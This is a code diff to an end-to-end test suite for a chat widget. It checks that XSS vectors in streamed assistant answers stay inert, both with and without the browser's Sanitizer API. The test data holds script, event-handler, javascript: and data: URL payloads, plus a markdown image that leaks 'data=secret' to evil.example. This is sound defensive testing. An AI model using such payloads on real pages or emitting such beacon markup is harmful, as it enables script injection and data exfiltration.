@@ -20,7 +20,10 @@ const assistant = (page) => page.locator('pulse-chat [part~=assistant-message]')
 const sends = () => server.api.requests.filter((r) => r.path === '/api/chat/send');
 
 async function openChat(options = {}) {
-  const page = await openPage(browser, `${server.origin}/`, { token: options.token ?? TOKEN });
+  const page = await openPage(browser, `${server.origin}/`, {
+    token: options.token ?? TOKEN,
+    withoutSanitizerApi: options.withoutSanitizerApi,
+  });
   await page.locator('pulse-chat [part=launcher]').click();
   await input(page).waitFor();
   return page;
@@ -207,53 +210,61 @@ describe('markdown', () => {
     await page.context().close();
   });
 
-  test('XSS vectors in answers are inert', async () => {
-    server.api.reply = {
-      deltas: [
-        '<img src=x onerror="window.__xss=1">\n\n',
-        '<script>window.__xss=2</script>\n\n',
-        '<svg onload="window.__xss=3"><circle r=1 /></svg>\n\n',
-        '[click](javascript:window.__xss=4) and [data](data:text/html,<script>alert(1)</script>)\n\n',
-        '<a href="javascript:window.__xss=5">raw</a> <iframe src="javascript:window.__xss=6"></iframe>\n\n',
-        '<div onclick="window.__xss=7" style="position:fixed">styled</div> <form action="https://evil.example"><button>go</button></form>\n\n',
-        '![pixel](https://evil.example/leak?data=secret)\n\n',
-        '<details open ontoggle="window.__xss=8">x</details> <math><mi xlink:href="javascript:window.__xss=9">m</mi></math> done',
-      ],
-      delayMs: 5,
-    };
-    const page = await openChat();
-    await type(page, 'Try to hack me');
-    const md = assistant(page).last().locator('.md');
-    await md.getByText('done').waitFor();
-    assert.match(await md.textContent(), /<script>window\.(__)?xss=2<\/script>/, 'raw HTML is shown as text');
-    await page.waitForTimeout(300);
-    for (const a of await md.locator('a').all()) {
-      await a.click({ modifiers: [] }).catch(() => {});
-    }
-    await md.getByText('styled').click();
-    await page.waitForTimeout(200);
-    assert.equal(await page.evaluate(() => window.__xss), undefined);
-    const found = await page.evaluate(() => {
-      const root = document.querySelector('pulse-chat').shadowRoot.querySelector('pulse-chat-panel').shadowRoot;
-      const nodes = [...root.querySelectorAll('.md *')];
-      return {
-        tags: [...new Set(nodes.map((n) => n.localName))].sort(),
-        handlers: nodes.flatMap((n) =>
-          [...n.attributes].filter((a) => a.name.startsWith('on') || a.name === 'style').map((a) => a.name),
-        ),
-        hrefs: nodes.map((n) => n.getAttribute('href')).filter(Boolean),
+  for (const [label, withoutSanitizerApi] of [
+    ['with the browser’s Sanitizer API', false],
+    ['without it (the widget’s own allowlist alone)', true],
+  ])
+    test(`XSS vectors in answers are inert, ${label}`, async () => {
+      server.api.reply = {
+        deltas: [
+          '<img src=x onerror="window.__xss=1">\n\n',
+          '<script>window.__xss=2</script>\n\n',
+          '<svg onload="window.__xss=3"><circle r=1 /></svg>\n\n',
+          '[click](javascript:window.__xss=4) and [data](data:text/html,<script>alert(1)</script>)\n\n',
+          '<a href="javascript:window.__xss=5">raw</a> <iframe src="javascript:window.__xss=6"></iframe>\n\n',
+          '<div onclick="window.__xss=7" style="position:fixed">styled</div> <form action="https://evil.example"><button>go</button></form>\n\n',
+          '![pixel](https://evil.example/leak?data=secret)\n\n',
+          '<details open ontoggle="window.__xss=8">x</details> <math><mi xlink:href="javascript:window.__xss=9">m</mi></math> done',
+        ],
+        delayMs: 5,
       };
+      const page = await openChat({ withoutSanitizerApi });
+      assert.equal(
+        await page.evaluate(() => typeof Element.prototype.setHTML),
+        withoutSanitizerApi ? 'undefined' : 'function',
+      );
+      await type(page, 'Try to hack me');
+      const md = assistant(page).last().locator('.md');
+      await md.getByText('done').waitFor();
+      assert.match(await md.textContent(), /<script>window\.(__)?xss=2<\/script>/, 'raw HTML is shown as text');
+      await page.waitForTimeout(300);
+      for (const a of await md.locator('a').all()) {
+        await a.click({ modifiers: [] }).catch(() => {});
+      }
+      await md.getByText('styled').click();
+      await page.waitForTimeout(200);
+      assert.equal(await page.evaluate(() => window.__xss), undefined);
+      const found = await page.evaluate(() => {
+        const root = document.querySelector('pulse-chat').shadowRoot.querySelector('pulse-chat-panel').shadowRoot;
+        const nodes = [...root.querySelectorAll('.md *')];
+        return {
+          tags: [...new Set(nodes.map((n) => n.localName))].sort(),
+          handlers: nodes.flatMap((n) =>
+            [...n.attributes].filter((a) => a.name.startsWith('on') || a.name === 'style').map((a) => a.name),
+          ),
+          hrefs: nodes.map((n) => n.getAttribute('href')).filter(Boolean),
+        };
+      });
+      for (const tag of ['script', 'img', 'svg', 'iframe', 'form', 'button', 'math'])
+        assert.ok(!found.tags.includes(tag), `${tag} removed: ${found.tags}`);
+      assert.deepEqual(found.handlers, []);
+      assert.ok(
+        found.hrefs.every((h) => /^https?:/.test(h)),
+        `only http(s) links survive: ${found.hrefs}`,
+      );
+      assert.deepEqual(await page.evaluate(() => window.__csp), []);
+      await page.context().close();
     });
-    for (const tag of ['script', 'img', 'svg', 'iframe', 'form', 'button', 'math'])
-      assert.ok(!found.tags.includes(tag), `${tag} removed: ${found.tags}`);
-    assert.deepEqual(found.handlers, []);
-    assert.ok(
-      found.hrefs.every((h) => /^https?:/.test(h)),
-      `only http(s) links survive: ${found.hrefs}`,
-    );
-    assert.deepEqual(await page.evaluate(() => window.__csp), []);
-    await page.context().close();
-  });
 });
 
 describe('sessions', () => {
